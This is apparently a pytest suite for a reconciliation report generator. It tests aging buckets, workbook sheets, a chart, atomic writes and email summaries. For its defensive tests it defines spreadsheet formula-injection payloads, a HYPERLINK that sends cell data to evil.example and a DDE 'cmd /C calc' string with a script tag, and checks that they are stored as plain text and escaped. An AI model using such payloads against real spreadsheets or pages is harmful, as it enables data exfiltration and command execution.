"""The reconciliation report: aging, summary figures, the xlsx workbook, the email summary, the exit status."""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from poflow_sheets import reports
from poflow_sheets.reconcile import Ledger, MatchConfig, MatchResult, Unmatched, apply_to_ledger, match_payments
from poflow_sheets.records import Allocation, Buyer, Invoice, Order, Settings, Transaction
from poflow_sheets.reports import (
    BUCKETS,
    SHEETS,
    aging_bucket,
    aging_buckets,
    facts_after,
    open_items,
    overdue_by_buyer,
    summary_figures,
    summary_html,
    summary_markdown,
    write_report,
)

D = Decimal
TODAY = date(2026, 4, 30)
EVIL_MEMO = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_PAYER = "=cmd|' /C calc'!A0 <script>alert(1)</script>"


def inv(number: str, po: str, total: str, when: date = date(2026, 3, 1), *, due: date | None = None,
        kind: str = "final", status: str = "open", related: str = "") -> Invoice:
    return Invoice(
        invoice_number=number, kind=kind, po_number=po, invoice_date=when, due_date=due, total=D(total),
        status=status, terms="Net 30", related=related)


def tx(tid: str, amount: str, payer: str = "", memo: str = "", when: date = date(2026, 3, 25), code: str = "") -> Transaction:
    return Transaction(
        transaction_id=tid, date=when, amount=D(amount), currency="USD", payer=payer, memo=memo,
        source=f"bank.csv:{tid}", bank_code=code)


BUYERS = (Buyer("B1", "Corner Shop LLC"), Buyer("B2", "Blue Heron & Co <b>"), Buyer("B3", "Acme Retail GmbH"))
ORDERS = tuple(Order(po, b, date(2026, 2, 1), "invoiced")
               for po, b in (("PO-1001", "B1"), ("PO-1002", "B1"), ("PO-2001", "B2"), ("PO-2002", "B2"),
                             ("PO-3001", "B3"), ("PO-3002", "B3")))
INVOICES = (
    inv("INV-0042", "PO-1001", "1234.50"),
    inv("INV-0043", "PO-1002", "500.00", date(2025, 12, 1)),  # due 2025-12-31: 120 days past due
    inv("INV-0050", "PO-2001", "150.00"),
    inv("INV-0051", "PO-2002", "150.00"),
    inv("INV-0060", "PO-3001", "2000.00", date(2026, 4, 20)),  # not due yet
    inv("INV-0061", "PO-3002", "300.00", date(2026, 2, 1)),  # due 2026-03-03: 58 days past due
    inv("INV-0099", "PO-3002", "999.00", status="void"),
)
LEDGER = Ledger(
    buyers=BUYERS, orders=ORDERS, lines=(), invoices=INVOICES,
    allocations=(Allocation(
    transaction_id="OLD-1", amount=D("100.00"), kind="invoice", invoice_number="INV-0061", po_number="PO-3002"),),
    payments=(), settings=Settings(currency="USD"))
TXS = (
    tx("T1", "1234.50", "Corner Shop LLC", "INV-0042"),  # applied
    tx("T2", "99.99", EVIL_PAYER, EVIL_MEMO),  # unmatched, formula-like text
    tx("T3", "-20.00", "", "monthly fee", code="FEE"),  # ignored
    tx("T4", "150.00", "", "payment thanks"),  # two invoices of 150.00: suggestions
    tx("T5", "250.00", "Acme Retail GmbH", "INV-0061"),  # 200 open: 50 left on account as a credit
)


@pytest.fixture(scope="module")
def result() -> MatchResult:
    return match_payments(TXS, LEDGER, MatchConfig(), TODAY)


@pytest.fixture(scope="module")
def report(result: MatchResult, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_report(tmp_path_factory.mktemp("report") / "reconcile-2026-04-30.xlsx", result, TXS, LEDGER, TODAY)


def test_the_ledger_gives_every_outcome(result: MatchResult) -> None:
    assert {a.transaction_id for a in result.allocations} == {"T1", "T5"}
    assert any(a.kind == "credit" for a in result.allocations)
    assert [s.transaction_id for s in result.suggestions] == ["T4"]
    assert [u.transaction_id for u in result.unmatched] == ["T2"]
    assert [u.transaction_id for u in result.ignored] == ["T3"]


# ---------------------------------------------------------------------------------------------- aging


@pytest.mark.parametrize(("days", "bucket"), [
    (-5, "Current"), (0, "Current"), (1, "1-30"), (30, "1-30"), (31, "31-60"), (60, "31-60"),
    (61, "61-90"), (90, "61-90"), (91, "90+"), (400, "90+"),
])
def test_bucket_boundaries(days: int, bucket: str) -> None:
    assert aging_bucket(days) == bucket


def test_aging_buckets_at_the_boundaries() -> None:
    days = (0, 1, 30, 31, 60, 61, 90, 91)
    invoices = [inv(f"I{d}", "PO", f"{d + 1}.00", due=TODAY - timedelta(days=d)) for d in days]
    got = aging_buckets(invoices, {}, TODAY)
    assert got == {"Current": D("1.00"), "1-30": D("33.00"), "31-60": D("93.00"), "61-90": D("153.00"),
                   "90+": D("92.00")}
    assert list(got) == list(BUCKETS)


def test_aging_leaves_out_paid_void_and_credit_and_counts_partial_balances() -> None:
    due = TODAY - timedelta(days=45)
    invoices = [
        inv("PAID", "PO", "100.00", due=due),
        inv("PART", "PO", "100.00", due=due),
        inv("VOID", "PO", "100.00", due=due, status="void"),
        inv("CN-1", "PO", "-40.00", due=due, kind="credit", related="PART"),
        inv("OVER", "PO", "10.00", due=due),
    ]
    paid = {"PAID": D("100.00"), "PART": D("30.25"), "OVER": D("12.00")}
    assert aging_buckets(invoices, paid, TODAY) == {"Current": D(0), "1-30": D(0), "31-60": D("69.75"),
                                                    "61-90": D(0), "90+": D(0)}


def test_due_date_from_terms_when_the_cell_is_empty() -> None:
    invoice = Invoice(
        invoice_number="I", kind="final", po_number="PO", invoice_date=date(2026, 3, 1), due_date=None,
        total=D("10.00"), status="open", terms="")
    assert aging_buckets([invoice], {}, TODAY, terms={"I": "Net 30"})["1-30"] == D("10.00")  # due 03-31
    assert aging_buckets([invoice], {}, TODAY)["31-60"] == D("10.00")  # no terms: due on its date


def test_overdue_by_buyer_after_this_runs_allocations(result: MatchResult) -> None:
    s = summary_figures(result, TXS, LEDGER, TODAY)
    items = {i.invoice_number: i for i in s.items}
    assert set(items) == {"INV-0043", "INV-0050", "INV-0051", "INV-0060"}  # 0042 and 0061 paid by T1, T5
    assert items["INV-0043"].days_past_due == 120 and items["INV-0043"].bucket == "90+"
    assert items["INV-0060"].bucket == "Current"
    rows = {r.buyer_id: r for r in s.buyers}
    assert rows["B1"].overdue == D("500.00") and rows["B1"].oldest_days == 120
    assert rows["B2"].overdue == D("300.00") and rows["B2"].invoices == 2
    assert rows["B3"].overdue == D(0) and rows["B3"].open_balance == D("2000.00")
    assert [r.buyer_id for r in s.buyers] == ["B1", "B2", "B3"]
    # the same figures before the run: INV-0061 (200.00 left, 58 days) is still open
    before = overdue_by_buyer(open_items(facts_after(LEDGER), TODAY))
    assert {r.buyer_id: r.buckets[BUCKETS.index("31-60")] for r in before}["B3"] == D("200.00")


def test_a_ledger_read_after_apply_is_not_counted_twice(result: MatchResult) -> None:
    applied = apply_to_ledger(LEDGER, result.allocations, TODAY)
    assert summary_figures(result, TXS, applied, TODAY).aging == summary_figures(result, TXS, LEDGER, TODAY).aging


# ---------------------------------------------------------------------------------------------- exit status


def test_exit_status(result: MatchResult) -> None:
    assert result.exit_status == 1
    settled = MatchResult(
        transactions=result.transactions, allocations=result.allocations, suggestions=(), unmatched=(),
        ignored=result.ignored, already=result.already)
    assert settled.exit_status == 0
    only_unmatched = MatchResult(
        transactions=(), allocations=(), suggestions=(), unmatched=(Unmatched("X", "b:1", "why"),), ignored=(),
        already=())
    assert only_unmatched.exit_status == 1


# ---------------------------------------------------------------------------------------------- the workbook


def _summary_rows(wb: openpyxl.Workbook) -> dict[str, tuple[object, object]]:
    ws = wb["Summary"]
    return {str(r[0]): (r[1], r[2]) for r in ws.iter_rows(values_only=True) if r[0] is not None}


def test_report_sheets_and_summary_figures(report: Path, result: MatchResult) -> None:
    wb = openpyxl.load_workbook(report)
    assert wb.sheetnames == list(SHEETS)
    rows = _summary_rows(wb)
    received = [t.amount for t in TXS if t.amount > 0]
    assert rows["Cash received"] == (len(received), pytest.approx(float(sum(received))))
    assert D(str(rows["Cash received"][1])) == sum(received)
    from_payment = sum(a.amount for a in result.allocations if a.kind in ("invoice", "deposit", "credit"))
    assert from_payment == D("1484.50")
    assert rows["Applied automatically"][0] == 2 and D(str(rows["Applied automatically"][1])) == from_payment
    assert rows["Credits on account"][0] == 1 and D(str(rows["Credits on account"][1])) == D("50.00")
    assert rows["Needs review (suggestions)"][0] == 1 and D(str(rows["Needs review (suggestions)"][1])) == D("150.00")
    assert rows["Unmatched"][0] == 1 and D(str(rows["Unmatched"][1])) == D("99.99")
    assert rows["Ignored"][0] == 1 and D(str(rows["Ignored"][1])) == D("-20.00")
    aging = summary_figures(result, TXS, LEDGER, TODAY).aging
    for bucket, label in zip(BUCKETS, ("Current", "1-30 Days", "31-60 Days", "61-90 Days", "90+ Days"), strict=True):
        assert D(str(rows[label][1])) == aging[bucket]
    assert D(str(rows["Total open"][1])) == sum(aging.values()) == D("2800.00")
    # money cells are numbers with the money format
    cell = next(c for c in wb["Applied"]["I"] if c.row > 1)
    assert cell.data_type == "n" and cell.number_format == "#,##0.00"


def test_outside_text_is_stored_as_strings_never_formulas(report: Path) -> None:
    wb = openpyxl.load_workbook(report)
    ws = wb["Unmatched"]
    header = [c.value for c in ws[1]]
    row = [c for c in ws[2]]
    memo = row[header.index("Memo")]
    payer = row[header.index("Payer")]
    assert memo.value == EVIL_MEMO and memo.data_type == "s"
    assert payer.value == EVIL_PAYER and payer.data_type == "s"
    for sheet in wb.worksheets:
        for r in sheet.iter_rows():
            assert all(c.data_type != "f" for c in r), sheet.title
    with zipfile.ZipFile(report) as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_suggestions_one_row_per_candidate_ranked(report: Path, result: MatchResult) -> None:
    ws = openpyxl.load_workbook(report)["Suggestions"]
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True) if r[0]]
    cands = result.suggestions[0].candidates
    assert len(rows) == len(cands) >= 2
    assert [r["Rank"] for r in rows] == list(range(1, len(cands) + 1))
    assert [r["Invoice Number"] for r in rows] == [c.invoice_number for c in cands]
    assert all(r["Why"] for r in rows) and rows[0]["Score"] == pytest.approx(float(cands[0].score))


def test_open_invoices_and_overdue_by_buyer_sheets(report: Path) -> None:
    wb = openpyxl.load_workbook(report)
    ws = wb["Open Invoices"]
    header = [c.value for c in ws[1]]
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)
            if r[0] and r[0] != "Total"}
    assert set(rows) == {"INV-0043", "INV-0050", "INV-0051", "INV-0060"}
    assert rows["INV-0043"]["Days Past Due"] == 120 and rows["INV-0043"]["90+ Days"] == 500.0
    assert rows["INV-0043"]["Current"] is None
    assert ws.cell(2, header.index("Due Date") + 1).is_date
    buyers = wb["Overdue by Buyer"]
    names = [r[1] for r in buyers.iter_rows(min_row=2, values_only=True) if r[0] and r[0] != "Total"]
    assert names == ["Corner Shop LLC", "Blue Heron & Co <b>", "Acme Retail GmbH"]


def test_the_aging_chart_is_a_native_column_chart(report: Path) -> None:
    with zipfile.ZipFile(report) as z:
        chart = z.read("xl/charts/chart1.xml").decode()
    assert "<c:barChart>" in chart and '<c:barDir val="col"/>' in chart
    assert "Summary!$C$" in chart and "Summary!$A$" in chart


def test_write_report_replaces_atomically(tmp_path: Path, result: MatchResult) -> None:
    target = tmp_path / "out" / "r.xlsx"
    target.parent.mkdir()
    target.write_bytes(b"old")
    assert write_report(target, result, TXS, LEDGER, TODAY) == target
    assert zipfile.is_zipfile(target)
    assert [p.name for p in target.parent.iterdir()] == ["r.xlsx"]  # no temp file left


def test_write_report_leaves_nothing_on_failure(tmp_path: Path, result: MatchResult,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "r.xlsx").write_bytes(b"yesterday's report")

    def boom(*args: object) -> None:
        raise RuntimeError("disk full")

    monkeypatch.setattr(reports, "_summary_sheet", boom)
    with pytest.raises(RuntimeError):
        write_report(tmp_path / "r.xlsx", result, TXS, LEDGER, TODAY)
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]
    assert (tmp_path / "r.xlsx").read_bytes() == b"yesterday's report"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_report(report: Path, tmp_path: Path) -> None:
    out = tmp_path / "pdf"
    proc = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless", "--norestore",
         "--convert-to", "pdf", "--outdir", str(out), str(report)],
        capture_output=True, text=True, timeout=240, check=False,
    )
    assert proc.returncode == 0, proc.stderr
    pdf = out / (report.stem + ".pdf")
    assert pdf.is_file() and pdf.read_bytes().startswith(b"%PDF"), proc.stdout + proc.stderr


# ---------------------------------------------------------------------------------------------- email summary


def test_summary_markdown(result: MatchResult) -> None:
    text = summary_markdown(result, TXS, LEDGER, TODAY)
    assert "- Cash received: 4, 1,734.49 USD" in text
    assert "- Applied automatically: 2, 1,484.50 USD" in text
    assert "## Needs review (2)" in text
    assert "T4 (2026-03-25, 150.00 USD) suggested: best candidate INV-005" in text
    assert "T2 (2026-03-25, 99.99 USD, " in text and "unmatched: no reference" in text
    assert "- Corner Shop LLC: 500.00 USD overdue of 500.00 USD open, oldest 120 days past due" in text
    assert text.index("Corner Shop LLC:") < text.index("Blue Heron")
    assert "Acme Retail GmbH:" not in text  # nothing overdue


def test_summary_keeps_a_memo_on_one_line() -> None:
    t = tx("T9", "12.00", "A\nB", "line1\r\n- forged line")
    r = match_payments((t,), LEDGER, MatchConfig(), TODAY)
    text = summary_markdown(r, (t,), LEDGER, TODAY)
    assert "\n- forged" not in text and "\nB" not in text


def test_summary_html_escapes_outside_text(result: MatchResult) -> None:
    page = summary_html(result, TXS, LEDGER, TODAY)
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "Blue Heron &amp; Co &lt;b&gt;" in page
    assert page.count("<li>") == 2 + 2  # two to review, two overdue buyers
    assert "1,734.49 USD" in page


def test_summary_when_nothing_needs_review() -> None:
    r = match_payments((tx("T1", "1234.50", "Corner Shop LLC", "INV-0042"),), LEDGER, MatchConfig(), TODAY)
    assert r.exit_status == 0
    assert "Nothing: every transaction was settled or ignored." in summary_markdown(r, r.transactions, LEDGER, TODAY)
    assert "Nothing: every transaction" in summary_html(r, r.transactions, LEDGER, TODAY)
